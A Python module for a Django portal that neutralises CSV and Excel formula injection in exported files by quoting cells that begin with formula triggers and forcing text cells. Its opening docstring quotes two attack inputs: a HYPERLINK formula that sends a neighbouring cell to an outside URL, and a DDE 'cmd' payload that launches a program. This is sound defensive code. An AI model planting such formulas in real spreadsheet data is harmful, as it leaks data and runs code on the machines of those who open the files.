"""Cells that stay data: the one rule every CSV and Excel file the portal hands out is written through.

Anyone who may type into a field (an enterprise user, an import file) decides what a cell of an export starts
with, and bureau staff open those files. A spreadsheet reads text that starts with `=`, `+`, `-` or `@` (or a tab
or carriage return before one of them) as a formula: `=HYPERLINK("http://…"&D2,"详情")` leaks the row next to it,
`=cmd|' /C calc'!A0` runs a program. So, as OWASP advises for CSV injection, such text gets a leading single
quote; in Excel files every text is also written as a text cell, never as a formula or an error value.
Numbers, dates and booleans are data already and stay what they are: a negative amount remains a number.
"""

import csv
import datetime
import io
import re
from collections.abc import Iterable, Iterator

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Control characters an .xlsx cannot hold (openpyxl refuses them) and no spreadsheet shows: dropped everywhere,
# before the trigger check, so "\x01=1" cannot become "=1" afterwards.
CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"


def safe_cell(value):
    """The value as it may go into an exported cell: text a spreadsheet would take for a formula gets a leading
    single quote; control characters are removed; anything that is not text is returned unchanged."""
    if not isinstance(value, str):
        return value
    value = CONTROL_CHARACTERS.sub("", value)
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


# CSV ----------------------------------------------------------------------------------------------------------------


class _Echo:
    """A file-like object that hands back what csv.writer writes, so rows can be streamed."""

    def write(self, value):
        return value


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """The lines of a CSV file, starting with a BOM so Excel reads the Chinese as UTF-8; every cell made safe."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


# Excel --------------------------------------------------------------------------------------------------------------


def xlsx_cell(sheet, value):
    """One cell for `sheet.append`: text always as a text cell (never "f" or "e"), other values as they are."""
    value = safe_cell(value)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)  # Excel has no time zones: the portal's local time, as on screen
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=value)  # openpyxl cuts text to Excel's 32,767 characters
    cell.data_type = "s"
    return cell


def xlsx_append(sheet, values: Iterable) -> None:
    """Append one row to a worksheet (write-only or not), every cell made safe."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


def xlsx_bytes(title: str, header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """A one-sheet workbook of `header` and `rows`, every cell made safe."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    xlsx_append(sheet, header)
    for row in rows:
        xlsx_append(sheet, row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
